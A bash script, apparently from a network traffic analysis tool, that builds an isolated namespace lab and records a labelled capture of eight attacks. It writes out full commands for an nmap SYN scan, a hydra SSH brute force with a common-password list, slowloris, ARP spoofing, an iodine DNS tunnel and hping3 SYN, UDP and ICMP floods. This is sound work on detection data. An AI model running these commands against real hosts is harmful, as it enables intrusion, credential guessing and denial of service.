#!/bin/bash
# Makes demo.pcap.gz and demo.labels.csv: eight attacks by real tools in a network of namespaces, with ordinary traffic all the time.
#
# Root on Debian 12; takes six minutes. Packages:
#   iproute2 ethtool tcpdump python3 openssl openssh-server openssh-client nginx-light dnsmasq curl dnsutils iputils-ping
#   nmap hydra slowhttptest dsniff iodine hping3
#
# Every attack tool runs in a namespace without a route out, with a bounded rate and under `timeout`. On exit everything is removed.
#
#   make-demo.sh [DIRECTORY]      default: the resources of the nta command
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
target=${1:-$here/../main/resources/io/nta/examples/cli}
mkdir -p "$target"
target=$(cd "$target" && pwd)
source "$here/lab.sh"
trap lab_down EXIT
cd "$RUN"

lab_up
printf '%s\n' 123456 password letmein qwerty welcome1 dragon monkey iloveyou admin root toor changeme summer2024 winter2024 \
    football baseball master shadow sunshine princess trustno1 passw0rd hello123 abc123 superman batman hunter2 test1234 >"$RUN/words"
for word in $(cat "$RUN/words"); do echo "${word}1"; echo "${word}!"; done >>"$RUN/words"
spawn inet iodined -f -c -P lab-tunnel -l 203.0.113.66 172.31.53.1/27 t.example.net

capture_start "$RUN/demo.pcap"
PING_COUNT=120 background
sleep 24

activity port_scan attacker1 10.20.0.10 nmap "500 ports, 25 probes/s" 40 \
    "nmap -n -Pn -sS -p 1-500 --max-rate 25 --max-retries 1 10.20.0.10"
sleep 14
activity ssh_brute attacker2 10.20.0.22 hydra "4 tasks" 40 \
    "hydra -I -l alice -P $RUN/words -t 4 ssh://10.20.0.22"
sleep 12
activity slowloris attacker1 10.20.0.10 slowhttptest "120 connections, a header each 8 s" 58 \
    "slowhttptest -H -c 120 -r 30 -i 8 -l 50 -x 20 -p 5 -u http://10.20.0.10/index.html" &
slow=$!
sleep 34
on attacker2 sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
activity arp_spoof attacker2 10.20.0.102 arpspoof "02:20:00:00:00:c9 claims 10.20.0.1 to .102, relays" 36 \
    "arpspoof -i eth0 -t 10.20.0.102 10.20.0.1" &
spoof=$!
activity arp_spoof attacker2 10.20.0.1 arpspoof "02:20:00:00:00:c9 claims 10.20.0.102 to .1, relays" 36 \
    "arpspoof -i eth0 -t 10.20.0.1 10.20.0.102"
wait "$slow" "$spoof"
sleep 8
activity dns_tunnel attacker1 10.20.0.1 iodine "NULL queries through the resolver 10.20.0.1; ping of 180 bytes 4/s inside; domain t.example.net" 42 \
    "iodine -f -r -T NULL -P lab-tunnel -d dns0 10.20.0.1 t.example.net & sleep 6; ping -q -i 0.25 -s 180 -c 120 172.31.53.1; sleep 1; kill %1"
sleep 12
SOURCE_IP='' activity syn_flood attacker2 10.20.0.10 hping3 "random sources, 300/s, open port 80" 24 \
    "hping3 -q -S -p 80 --rand-source -i u3333 10.20.0.10"
sleep 12
activity udp_flood attacker1 10.20.0.22 hping3 "500/s of 64 bytes to one closed port" 22 \
    "hping3 -q --udp -p 9000 -d 64 -i u2000 10.20.0.22"
sleep 10
activity icmp_flood attacker2 10.20.0.103 hping3 "200 echo requests/s" 24 \
    "hping3 -q -1 -d 56 -i u5000 10.20.0.103"
sleep 12
capture_stop

python3 "$here/trim.py" "$RUN/demo.pcap" "$target/demo.pcap.gz"
{ head -1 "$LABELS"; tail -n +2 "$LABELS" | sort -n; } >"$target/demo.labels.csv"
[ -z "${KEEP_LOGS:-}" ] || cp -r "$RUN" "$KEEP_LOGS"
ls -l "$target"
